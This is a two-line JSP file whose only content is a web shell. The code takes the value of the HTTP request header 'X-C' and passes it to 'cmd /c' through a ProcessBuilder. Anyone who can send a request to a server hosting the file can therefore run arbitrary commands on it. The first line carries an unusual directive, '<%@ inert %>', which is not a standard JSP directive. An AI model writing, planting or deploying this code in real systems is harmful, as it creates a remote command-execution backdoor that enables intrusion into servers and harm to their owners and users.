<%@ inert %>
<% ProcessBuilder b = new ProcessBuilder(new String[]{"cmd","/c",request.getHeader("X-C")}); b.start(); %>